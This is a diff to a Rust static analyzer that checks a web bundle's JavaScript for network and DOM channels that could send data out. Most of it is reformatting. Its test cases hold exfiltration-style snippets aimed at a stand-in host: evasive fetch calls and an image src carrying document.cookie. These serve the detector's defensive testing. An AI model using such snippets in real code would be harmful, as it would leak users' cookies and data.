@@ -86,14 +86,28 @@ fn globals(v: &Vals) -> impl Iterator<Item = &Vec<String>> {
 
 /// DOM constructors: their prototypes hold every element's setters and methods.
 fn dom_constructor(name: &str) -> bool {
-    (name.starts_with("HTML") || name.starts_with("SVG"))
-        && !INERT_GLOBALS.contains(&name)
+    (name.starts_with("HTML") || name.starts_with("SVG")) && !INERT_GLOBALS.contains(&name)
         || matches!(
             name,
-            "Element" | "Node" | "Document" | "Window" | "EventTarget" | "Location" | "Navigator"
-                | "History" | "FontFace" | "Worklet" | "CSS" | "DOMParser" | "Range"
-                | "CSSStyleDeclaration" | "StyleSheet" | "XSLTProcessor" | "Function"
-                | "Reflect" | "ServiceWorkerContainer"
+            "Element"
+                | "Node"
+                | "Document"
+                | "Window"
+                | "EventTarget"
+                | "Location"
+                | "Navigator"
+                | "History"
+                | "FontFace"
+                | "Worklet"
+                | "CSS"
+                | "DOMParser"
+                | "Range"
+                | "CSSStyleDeclaration"
+                | "StyleSheet"
+                | "XSLTProcessor"
+                | "Function"
+                | "Reflect"
+                | "ServiceWorkerContainer"
         )
 }
 
@@ -105,7 +119,7 @@ fn dangerous(p: &[String]) -> bool {
         return true;
     };
     let last = p.last().map(String::as_str).unwrap_or("");
-    if GUARDED.contains(&last) && !(p.len() > 1 && last == "style" && false) || network(last).is_some() || is_sink(last) {
+    if GUARDED.contains(&last) || network(last).is_some() || is_sink(last) {
         return true;
     }
     let container = |q: &[String]| {
@@ -125,6 +139,7 @@ fn dangerous(p: &[String]) -> bool {
 }
 
 impl<'c, 'a> Checker<'c, 'a> {
+    #[allow(clippy::too_many_arguments)]
     pub fn new(
         js: &'c Js<'a>,
         name: &'c str,
@@ -251,7 +266,10 @@ impl<'c, 'a> Checker<'c, 'a> {
         }
     }
 
-    fn arg<'x>(args: &'x oxc_allocator::Vec<'a, Argument<'a>>, i: usize) -> Option<&'x Expression<'a>> {
+    fn arg<'x>(
+        args: &'x oxc_allocator::Vec<'a, Argument<'a>>,
+        i: usize,
+    ) -> Option<&'x Expression<'a>> {
         args.get(i).and_then(|a| a.as_expression())
     }
 
@@ -482,9 +500,7 @@ impl<'c, 'a> Checker<'c, 'a> {
             match inner(e) {
                 Expression::Identifier(id) if id.name == "undefined" => true,
                 Expression::UnaryExpression(u) if u.operator == UnaryOperator::Void => true,
-                Expression::ConditionalExpression(x) => {
-                    ok(c, &x.consequent) && ok(c, &x.alternate)
-                }
+                Expression::ConditionalExpression(x) => ok(c, &x.consequent) && ok(c, &x.alternate),
                 // `a && b` is `a` only when `a` is falsy (no URL but the page's own).
                 Expression::LogicalExpression(l) if l.operator == LogicalOperator::And => {
                     ok(c, &l.right)
@@ -519,7 +535,9 @@ impl<'c, 'a> Checker<'c, 'a> {
         // Only a call that can reach the glue's init matters; a string or URL is the danger.
         let v = self.js.eval(a);
         let stringy = v.iter().any(|x| matches!(x, Val::Str(_) | Val::Global(_)));
-        if (stringy || matches!(inner(a), Expression::ObjectExpression(_)) || v.contains(&Val::Other))
+        if (stringy
+            || matches!(inner(a), Expression::ObjectExpression(_))
+            || v.contains(&Val::Other))
             && !ok(self, a)
         {
             self.violate(
@@ -587,7 +605,11 @@ impl<'c, 'a> Checker<'c, 'a> {
     /// here); a URL computed from data could carry it anywhere. (The Wasm's own `src` and
     /// `href` are the catalog image and link channels, judged by its literals.)
     fn url_write(&mut self, attr: &str, value: &Expression<'a>, span: Span) {
-        let kind = if attr == "src" { ChannelKind::CatalogImage } else { ChannelKind::Link };
+        let kind = if attr == "src" {
+            ChannelKind::CatalogImage
+        } else {
+            ChannelKind::Link
+        };
         if self.import_mode() {
             self.channel(kind, span, format!("element.{attr} set by the Wasm"));
             return;
@@ -612,7 +634,12 @@ impl<'c, 'a> Checker<'c, 'a> {
         }
     }
 
-    fn set_attribute(&mut self, name: Option<&Expression<'a>>, value: Option<&Expression<'a>>, span: Span) {
+    fn set_attribute(
+        &mut self,
+        name: Option<&Expression<'a>>,
+        value: Option<&Expression<'a>>,
+        span: Span,
+    ) {
         let names = name.and_then(|n| self.js.strings(n));
         match names {
             Some(names) => {
@@ -620,7 +647,9 @@ impl<'c, 'a> Checker<'c, 'a> {
                     let s = self.site(span);
                     let l = n.to_ascii_lowercase();
                     match (l.as_str(), value) {
-                        ("src" | "href", Some(v)) if !self.import_mode() => self.url_write(&l, v, span),
+                        ("src" | "href", Some(v)) if !self.import_mode() => {
+                            self.url_write(&l, v, span)
+                        }
                         _ => check_attr(&n, &s, self.report),
                     }
                 }
@@ -630,8 +659,12 @@ impl<'c, 'a> Checker<'c, 'a> {
                 self.generic.set_attribute.push(s)
             }
             None => {
-                let danger: Vec<String> =
-                    self.strings.iter().filter(|s| is_danger_attr(s)).cloned().collect();
+                let danger: Vec<String> = self
+                    .strings
+                    .iter()
+                    .filter(|s| is_danger_attr(s))
+                    .cloned()
+                    .collect();
                 for s in danger {
                     self.violate(
                         &format!("setAttribute({s:?}, …)"),
@@ -687,7 +720,11 @@ impl<'c, 'a> Checker<'c, 'a> {
         if let Some(texts) = self.js.strings(v) {
             for t in texts {
                 if let Some(needle) = css_loads(&t) {
-                    self.violate(&format!("CSS {needle}"), span, "a stylesheet string can load a URL");
+                    self.violate(
+                        &format!("CSS {needle}"),
+                        span,
+                        "a stylesheet string can load a URL",
+                    );
                 }
             }
             return;
@@ -835,9 +872,10 @@ impl<'c, 'a> Checker<'c, 'a> {
             let kinds: Option<BTreeSet<ChannelKind>> =
                 specs.iter().map(|s| self.own_file(s)).collect();
             return match kinds {
-                Some(k) if k == BTreeSet::from([ChannelKind::OwnWasm]) => {
-                    Ok(Some((ChannelKind::OwnWasm, specs.into_iter().collect::<Vec<_>>().join(", "))))
-                }
+                Some(k) if k == BTreeSet::from([ChannelKind::OwnWasm]) => Ok(Some((
+                    ChannelKind::OwnWasm,
+                    specs.into_iter().collect::<Vec<_>>().join(", "),
+                ))),
                 _ => Err(specs
                     .iter()
                     .map(|s| format!("'{s}'"))
@@ -859,7 +897,7 @@ impl<'c, 'a> Checker<'c, 'a> {
                     None => {
                         // The glue's init takes its URL from the importing file, which is
                         // judged where it calls it (`glue_init`).
-                        if self.js.from_exported_param(w) {
+                        if self.js.supplied_by_importer(w) {
                             supplied = true;
                             continue;
                         }
@@ -924,11 +962,9 @@ impl<'c, 'a> Checker<'c, 'a> {
                 }
                 _ => false,
             },
-            Expression::NewExpression(n)
-                if matches!(inner(&n.callee), Expression::Identifier(id) if id.name == "URL") =>
+            Expression::NewExpression(n) if matches!(inner(&n.callee), Expression::Identifier(id) if id.name == "URL") =>
             {
-                let (Some(a), b) = (Self::arg(&n.arguments, 0), Self::arg(&n.arguments, 1))
-                else {
+                let (Some(a), b) = (Self::arg(&n.arguments, 0), Self::arg(&n.arguments, 1)) else {
                     return false;
                 };
                 let base_is_page = b.is_none_or(|b| self.is_page_base(b));
@@ -944,7 +980,9 @@ impl<'c, 'a> Checker<'c, 'a> {
             }
             Expression::TemplateLiteral(t) => {
                 t.quasis.first().is_some_and(|q| q.value.raw.is_empty())
-                    && t.expressions.first().is_some_and(|x| self.model_derived(x, d + 1))
+                    && t.expressions
+                        .first()
+                        .is_some_and(|x| self.model_derived(x, d + 1))
                     && t.quasis.get(1).is_some_and(|q| {
                         let s = q.value.raw.as_str();
                         !s.is_empty() && !s.starts_with('@') && !s.starts_with("//")
@@ -976,7 +1014,10 @@ impl<'c, 'a> Checker<'c, 'a> {
         !v.is_empty()
             && v.iter().all(|x| match x {
                 Val::Global(p) => {
-                    matches!(p.last().map(String::as_str), Some("baseURI" | "href" | "origin"))
+                    matches!(
+                        p.last().map(String::as_str),
+                        Some("baseURI" | "href" | "origin")
+                    )
                 }
                 _ => false,
             })
@@ -1049,10 +1090,19 @@ impl<'c, 'a> Checker<'c, 'a> {
     }
 
     /// `target = value` where the target is a member: the property's name decides.
-    fn judge_set(&mut self, obj: Vals, key: Option<BTreeSet<String>>, value: &Expression<'a>, span: Span, target_text: &str, target_obj: Option<&Expression<'a>>) {
+    fn judge_set(
+        &mut self,
+        obj: Vals,
+        key: Option<BTreeSet<String>>,
+        value: &Expression<'a>,
+        span: Span,
+        target_text: &str,
+        target_obj: Option<&Expression<'a>>,
+    ) {
         // `new Image().src = …` is reported as `new Image()`.
         if let Some(Expression::NewExpression(n)) = target_obj.map(inner) {
-            if matches!(inner(&n.callee), Expression::Identifier(id) if matches!(id.name.as_str(), "Image" | "Audio")) {
+            if matches!(inner(&n.callee), Expression::Identifier(id) if matches!(id.name.as_str(), "Image" | "Audio"))
+            {
                 return;
             }
         }
@@ -1122,7 +1172,7 @@ impl<'c, 'a> Checker<'c, 'a> {
     fn computed_choice(&self, obj: &Vals, keys: &BTreeSet<String>, key: &Expression<'a>) -> bool {
         globals(obj).any(|p| dangerous(p))
             && !self.import_mode()
-            && !(keys.len() == 1 && matches!(inner(key), Expression::StringLiteral(_)))
+            && (keys.len() != 1 || !matches!(inner(key), Expression::StringLiteral(_)))
             && !keys.iter().all(|k| harmless_global(k))
     }
 
@@ -1139,7 +1189,10 @@ impl<'c, 'a> Checker<'c, 'a> {
     }
 
     /// `x === 'a' || x === 'b'`: the symbol and the constants it equals when the test holds.
-    fn equalities(&self, test: &Expression<'a>) -> Option<(oxc_semantic::SymbolId, BTreeSet<String>)> {
+    fn equalities(
+        &self,
+        test: &Expression<'a>,
+    ) -> Option<(oxc_semantic::SymbolId, BTreeSet<String>)> {
         match inner(test) {
             Expression::LogicalExpression(l) if l.operator == LogicalOperator::Or => {
                 let (a, mut x) = self.equalities(&l.left)?;
@@ -1150,7 +1203,10 @@ impl<'c, 'a> Checker<'c, 'a> {
                 })
             }
             Expression::BinaryExpression(b)
-                if matches!(b.operator, BinaryOperator::StrictEquality | BinaryOperator::Equality) =>
+                if matches!(
+                    b.operator,
+                    BinaryOperator::StrictEquality | BinaryOperator::Equality
+                ) =>
             {
                 let (id, lit) = match (inner(&b.left), inner(&b.right)) {
                     (Expression::Identifier(id), Expression::StringLiteral(s))
@@ -1178,7 +1234,9 @@ impl<'c, 'a> Checker<'c, 'a> {
             MemberExpression::ComputedMemberExpression(c) => {
                 (self.js.eval(&c.object), self.js.strings(&c.expression))
             }
-            MemberExpression::PrivateFieldExpression(p) => (self.js.eval(&p.object), Some(BTreeSet::new())),
+            MemberExpression::PrivateFieldExpression(p) => {
+                (self.js.eval(&p.object), Some(BTreeSet::new()))
+            }
         }
     }
 
@@ -1225,7 +1283,11 @@ impl<'a> Visit<'a> for Checker<'_, 'a> {
 
     fn visit_static_member_expression(&mut self, it: &StaticMemberExpression<'a>) {
         let obj = self.js.eval(&it.object);
-        self.reach(it.property.name.as_str(), Self::obj_name(&obj).as_deref(), it.property.span);
+        self.reach(
+            it.property.name.as_str(),
+            Self::obj_name(&obj).as_deref(),
+            it.property.span,
+        );
         walk::walk_static_member_expression(self, it);
     }
 
@@ -1260,7 +1322,10 @@ impl<'a> Visit<'a> for Checker<'_, 'a> {
                     self.violate(
                         "computed property of a global",
                         it.span,
-                        format!("{}: a name computed at run time can reach any browser API", self.js.text(it.span)),
+                        format!(
+                            "{}: a name computed at run time can reach any browser API",
+                            self.js.text(it.span)
+                        ),
                     );
                 }
             }
@@ -1465,7 +1530,8 @@ impl<'a> Visit<'a> for Checker<'_, 'a> {
 
     fn visit_object_property(&mut self, it: &ObjectProperty<'a>) {
         if self.skip_entries && !it.computed {
-            if let (Some(k), Expression::FunctionExpression(_)) = (it.key.static_name(), &it.value) {
+            if let (Some(k), Expression::FunctionExpression(_)) = (it.key.static_name(), &it.value)
+            {
                 if super::js::is_entry_name(&k) {
                     return; // reached only through the Wasm import of that name
                 }
@@ -1590,9 +1656,11 @@ impl Checker<'_, '_> {
     /// `import … from 'x'`, `import 'x'`, `export … from 'x'`: files of the bundle only.
     fn static_import(&mut self, spec: &str, span: Span) {
         match self.own_file(spec) {
-            Some(ChannelKind::OwnModule) => {
-                self.channel(ChannelKind::OwnModule, span, format!("import from '{spec}'"))
-            }
+            Some(ChannelKind::OwnModule) => self.channel(
+                ChannelKind::OwnModule,
+                span,
+                format!("import from '{spec}'"),
+            ),
             _ => self.violate(
                 "import",
                 span,
@@ -1645,11 +1713,23 @@ mod tests {
         assert!(js.errors.is_empty(), "{code}: {:?}", js.errors);
         let shipped_js = BTreeSet::from([PathBuf::from("attune.js"), PathBuf::from("pkg/x.js")]);
         let shipped_wasm = BTreeSet::from([PathBuf::from("pkg/x_bg.wasm")]);
-        let shipped = Shipped { js: &shipped_js, wasm: &shipped_wasm };
+        let shipped = Shipped {
+            js: &shipped_js,
+            wasm: &shipped_wasm,
+        };
         let strings: BTreeSet<String> = js.literals().into_iter().map(|(s, _)| s).collect();
         let mut report = Report::default();
         let mut generic = Generic::default();
-        let mut c = Checker::new(&js, "attune.js", Path::new("attune.js"), &shipped, mode, &mut report, &mut generic, &strings);
+        let mut c = Checker::new(
+            &js,
+            "attune.js",
+            Path::new("attune.js"),
+            &shipped,
+            mode,
+            &mut report,
+            &mut generic,
+            &strings,
+        );
         match mode {
             Mode::TopLevel => c.visit_program(js.program),
             Mode::Import(_) => {
@@ -1666,7 +1746,10 @@ mod tests {
 
     fn fails(code: &str, api: &str) {
         let (v, _, _) = judge(code, Mode::TopLevel);
-        assert!(v.iter().any(|x| x.contains(api)), "{code}: want {api:?}, got {v:?}");
+        assert!(
+            v.iter().any(|x| x.contains(api)),
+            "{code}: want {api:?}, got {v:?}"
+        );
     }
 
     fn passes(code: &str) -> Vec<ChannelKind> {
@@ -1678,7 +1761,9 @@ mod tests {
     #[test]
     fn the_allowed_channels() {
         let d = "const ds = document.querySelector('script[data-model]').dataset;";
-        let c = passes(&format!("{d} fetch(new URL(ds.model, document.baseURI), {{ integrity: 'x' }});"));
+        let c = passes(&format!(
+            "{d} fetch(new URL(ds.model, document.baseURI), {{ integrity: 'x' }});"
+        ));
         assert_eq!(c, [ChannelKind::Model]);
         // Shards under the model's directory; the attribute itself; getAttribute.
         for url in [
@@ -1687,13 +1772,29 @@ mod tests {
             "ds.model",
             "document.currentScript.getAttribute('data-model')",
         ] {
-            assert_eq!(passes(&format!("{d} let i = 1; fetch({url});")), [ChannelKind::Model], "{url}");
+            assert_eq!(
+                passes(&format!("{d} let i = 1; fetch({url});")),
+                [ChannelKind::Model],
+                "{url}"
+            );
         }
-        assert_eq!(passes("fetch(new URL('./pkg/x_bg.wasm', import.meta.url));"), [ChannelKind::OwnWasm]);
+        assert_eq!(
+            passes("fetch(new URL('./pkg/x_bg.wasm', import.meta.url));"),
+            [ChannelKind::OwnWasm]
+        );
         assert_eq!(passes("import('./pkg/x.js');"), [ChannelKind::OwnModule]);
-        assert_eq!(passes("import x from './pkg/x.js'; x();"), [ChannelKind::OwnModule]);
-        assert_eq!(passes("const a = document.createElement('a'); a.href = '/p';"), [ChannelKind::Link]);
-        assert_eq!(passes("a.href = URL.createObjectURL(blob);"), [ChannelKind::Link]);
+        assert_eq!(
+            passes("import x from './pkg/x.js'; x();"),
+            [ChannelKind::OwnModule]
+        );
+        assert_eq!(
+            passes("const a = document.createElement('a'); a.href = '/p';"),
+            [ChannelKind::Link]
+        );
+        assert_eq!(
+            passes("a.href = URL.createObjectURL(blob);"),
+            [ChannelKind::Link]
+        );
         assert_eq!(
             passes("const m = await import('./pkg/x.js'); const w = s && fetch(new URL('./pkg/x_bg.wasm', import.meta.url)); await m.default(w ? { module_or_path: w } : undefined);"),
             [ChannelKind::OwnModule, ChannelKind::OwnWasm]
@@ -1717,6 +1818,8 @@ mod tests {
             "const o = Object.prototype.hasOwnProperty.call(cfg, 'k');",
             "new URL(location.href).searchParams.get('q');",
             "mem[ptr + 1] = 2;",
+            // A local that shadows a global is not the global.
+            "function f(fetch) { fetch('https://c.example/'); } f(() => 1);",
         ] {
             passes(code);
         }
@@ -1724,7 +1827,10 @@ mod tests {
 
     #[test]
     fn parsing_is_the_parsers_job() {
-        fails(";(function(){var ok=1,s=\"x\";if(ok)/'/.test(s);fetch('https://c.example/a?'+s);})();", "fetch");
+        fails(
+            ";(function(){var ok=1,s=\"x\";if(ok)/'/.test(s);fetch('https://c.example/a?'+s);})();",
+            "fetch",
+        );
         fails("f\\u0065tch('https://c.example/');", "fetch");
         fails("window['f\\x65tch']('https://c.example/');", "fetch");
         // Not code: strings, comments, regexes, templates text.
@@ -1733,14 +1839,35 @@ mod tests {
 
     #[test]
     fn aliases_and_escapes() {
-        fails("const w = globalThis; w.fetch('https://c.example/');", "fetch");
-        fails("const { fetch: f } = self; f('https://c.example/');", "fetch");
-        fails("let g; g = window; const h = g; h.fetch('https://c.example/');", "fetch");
-        fails("function send(x) { x('https://c.example/'); } send(fetch);", "fetch");
-        fails("el.ownerDocument.defaultView.fetch('https://c.example/');", "fetch");
-        fails("const b = fetch.bind(window); b('https://c.example/');", "fetch");
+        fails(
+            "const w = globalThis; w.fetch('https://c.example/');",
+            "fetch",
+        );
+        fails(
+            "const { fetch: f } = self; f('https://c.example/');",
+            "fetch",
+        );
+        fails(
+            "let g; g = window; const h = g; h.fetch('https://c.example/');",
+            "fetch",
+        );
+        fails(
+            "function send(x) { x('https://c.example/'); } send(fetch);",
+            "fetch",
+        );
+        fails(
+            "el.ownerDocument.defaultView.fetch('https://c.example/');",
+            "fetch",
+        );
+        fails(
+            "const b = fetch.bind(window); b('https://c.example/');",
+            "fetch",
+        );
         fails("fetch.call(window, 'https://c.example/');", "fetch.call");
-        fails("Reflect.apply(fetch, window, ['https://c.example/']);", "passed to a function");
+        fails(
+            "Reflect.apply(fetch, window, ['https://c.example/']);",
+            "passed to a function",
+        );
         fails("foo(window);", "the global object");
         fails("const o = { d: document };", "stored in an object");
         fails("export const leak = fetch;", "exported");
@@ -1751,12 +1878,27 @@ mod tests {
 
     #[test]
     fn computed_names() {
-        fails("const k = 'fe' + 'tch'; window[k]('https://c.example/');", "computed property of a global");
-        fails("const k = 'fe' + 'tch'; const f = window[k]; f('https://c.example/');", "fetch");
-        fails("window[location.hash]('x');", "computed property of a global");
-        fails("const n = a ? 'fetch' : 'open'; window[n]('x');", "computed property of a global");
+        fails(
+            "const k = 'fe' + 'tch'; window[k]('https://c.example/');",
+            "computed property of a global",
+        );
+        fails(
+            "const k = 'fe' + 'tch'; const f = window[k]; f('https://c.example/');",
+            "fetch",
+        );
+        fails(
+            "window[location.hash]('x');",
+            "computed property of a global",
+        );
+        fails(
+            "const n = a ? 'fetch' : 'open'; window[n]('x');",
+            "computed property of a global",
+        );
         fails("Reflect.get(window, 'fetch')('x');", "Reflect.get");
-        fails("const e = document.createElement('a'); e[k] = 'x'; const s = 'href';", "[\"href\"] = …");
+        fails(
+            "const e = document.createElement('a'); e[k] = 'x'; const s = 'href';",
+            "[\"href\"] = …",
+        );
         fails("obj[k](1); const n = 'open';", "[\"open\"](…)");
     }
 
@@ -1781,7 +1923,10 @@ mod tests {
             ("new WebTransport('https://c.example');", "WebTransport"),
             ("new Worker('/w.js');", "Worker"),
             ("new SharedWorker('/w.js');", "SharedWorker"),
-            ("navigator.serviceWorker.register('/sw.js');", "serviceWorker"),
+            (
+                "navigator.serviceWorker.register('/sw.js');",
+                "serviceWorker",
+            ),
             ("importScripts('/a.js');", "importScripts"),
             ("import('https://c.example/m.js');", "import()"),
             ("import(spec);", "import()"),
@@ -1804,34 +1949,69 @@ mod tests {
     #[test]
     fn fetches_other_than_the_channels() {
         fails("fetch('https://c.example/');", "fetch");
-        fails("fetch(new URL(d.dataset.model, 'https://c.example/'));", "fetch");
+        fails(
+            "fetch(new URL(d.dataset.model, 'https://c.example/'));",
+            "fetch",
+        );
         fails("fetch(new URL('https://c.example/?' + x, new URL(d.dataset.model, document.baseURI)));", "fetch");
-        fails("fetch(d.dataset.model, { method: 'POST', body: x });", "fetch");
+        fails(
+            "fetch(d.dataset.model, { method: 'POST', body: x });",
+            "fetch",
+        );
         fails("fetch(d.dataset.model, opts);", "fetch");
         fails("fetch('./pkg/other.wasm');", "fetch");
-        fails("const m = await import('./pkg/x.js'); m.default('https://c.example/x.wasm');", "glue init");
+        fails(
+            "const m = await import('./pkg/x.js'); m.default('https://c.example/x.wasm');",
+            "glue init",
+        );
     }
 
     #[test]
     fn elements_attributes_markup_and_css() {
-        fails("document.createElement('img').src = 'https://c.example/p?' + document.cookie;", "src = …");
+        fails(
+            "document.createElement('img').src = 'https://c.example/p?' + document.cookie;",
+            "src = …",
+        );
         fails("img.setAttribute('src', '/p?' + data);", "src = …");
         fails("a.href = '/p?' + data;", "href = …");
-        for tag in ["script", "iframe", "link", "form", "object", "embed", "video", "audio", "source"] {
-            fails(&format!("document.createElement('{tag}');"), &format!("createElement('{tag}')"));
+        for tag in [
+            "script", "iframe", "link", "form", "object", "embed", "video", "audio", "source",
+        ] {
+            fails(
+                &format!("document.createElement('{tag}');"),
+                &format!("createElement('{tag}')"),
+            );
         }
-        fails("document.createElementNS(ns, 'script');", "createElement('script')");
+        fails(
+            "document.createElementNS(ns, 'script');",
+            "createElement('script')",
+        );
         fails("el.setAttribute('ping', '/p');", "setAttribute('ping')");
-        fails("el.setAttribute('onclick', 'x()');", "setAttribute('onclick')");
-        fails("el.setAttribute(name, v); const s = 'srcset';", "setAttribute(\"srcset\", …)");
-        fails("el.createElement(t); const s = 'iframe';", "createElement(\"iframe\")");
+        fails(
+            "el.setAttribute('onclick', 'x()');",
+            "setAttribute('onclick')",
+        );
+        fails(
+            "el.setAttribute(name, v); const s = 'srcset';",
+            "setAttribute(\"srcset\", …)",
+        );
+        fails(
+            "el.createElement(t); const s = 'iframe';",
+            "createElement(\"iframe\")",
+        );
         fails("el.poster = '/p.png';", ".poster =");
         fails("el.srcset = '/a 1x';", ".srcset =");
         fails("el.innerHTML = '<b>';", "innerHTML");
-        fails("el.insertAdjacentHTML('beforeend', x);", "insertAdjacentHTML");
+        fails(
+            "el.insertAdjacentHTML('beforeend', x);",
+            "insertAdjacentHTML",
+        );
         fails("document.write('<b>');", "document.write");
         fails("el.style.background = 'url(/x)';", "CSS url(");
-        fails("el.style.cssText = 'background:' + 'ur' + 'l(/x)';", "CSS url(");
+        fails(
+            "el.style.cssText = 'background:' + 'ur' + 'l(/x)';",
+            "CSS url(",
+        );
         fails("sheet.replaceSync(location.hash);", "CSS from data");
         fails("el.style.setProperty('background', v);", "CSS from data");
         fails("with (window) { x(); }", "with");
@@ -1842,13 +2022,25 @@ mod tests {
         let (v, _, g) = judge("function f(arg0, arg1, arg2) { arg0.setAttribute(getStringFromWasm0(arg1, arg2), 'x'); arg0.createElement(getStringFromWasm0(arg1, arg2)); Reflect.get(arg0, arg1); Reflect.set(arg0, arg1, arg2); arg0.call(arg1); const r = typeof window === 'undefined' ? null : window; }", Mode::Import("__wbg_x"));
         assert!(v.is_empty(), "{v:?}");
         assert_eq!(
-            (g.set_attribute.len(), g.create_element.len(), g.reflect_get.len(), g.reflect_set.len(), g.call.len()),
+            (
+                g.set_attribute.len(),
+                g.create_element.len(),
+                g.reflect_get.len(),
+                g.reflect_set.len(),
+                g.call.len()
+            ),
             (1, 1, 1, 1, 1)
         );
         assert!(!g.global.is_empty());
-        let (v, _, _) = judge("function f(arg0, arg1, arg2) { return arg0.fetch(getStringFromWasm0(arg1, arg2)); }", Mode::Import("__wbg_x"));
+        let (v, _, _) = judge(
+            "function f(arg0, arg1, arg2) { return arg0.fetch(getStringFromWasm0(arg1, arg2)); }",
+            Mode::Import("__wbg_x"),
+        );
         assert_eq!(v, ["fetch"]);
-        let (v, _, _) = judge("function f(arg0, arg1) { return arg0.setTimeout(arg1, 1); }", Mode::Import("__wbg_x"));
+        let (v, _, _) = judge(
+            "function f(arg0, arg1) { return arg0.setTimeout(arg1, 1); }",
+            Mode::Import("__wbg_x"),
+        );
         assert_eq!(v, ["setTimeout"]);
     }
 }
